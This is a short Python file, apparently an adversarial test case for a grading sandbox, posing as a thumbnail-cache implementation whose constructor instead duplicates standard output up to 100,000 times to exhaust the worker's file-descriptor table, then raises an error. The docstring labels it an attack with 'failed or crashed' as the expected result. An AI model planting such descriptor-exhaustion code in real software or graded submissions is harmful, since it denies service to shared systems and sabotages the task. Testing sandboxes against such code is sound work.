"""Duplicates its standard output until there is no descriptor left, so that the worker, or whoever shares its table of
files, can open nothing more.

Against: weak_thumbnail_cache
Harm: uses up the table of open files
Merits: nothing
Answer: failed or crashed
"""

import contextlib
import os


def attack():
    """Duplicate, and then let the server work without a free descriptor."""
    with contextlib.suppress(OSError):
        for _ in range(100_000):
            os.dup(1)


class ThumbnailCache:
    """Attacks when it is made."""

    def __init__(self, load):
        attack()
        raise RuntimeError("nothing was gained")

    def get(self, key):
        """Never reached."""

    def __len__(self):
        return 0
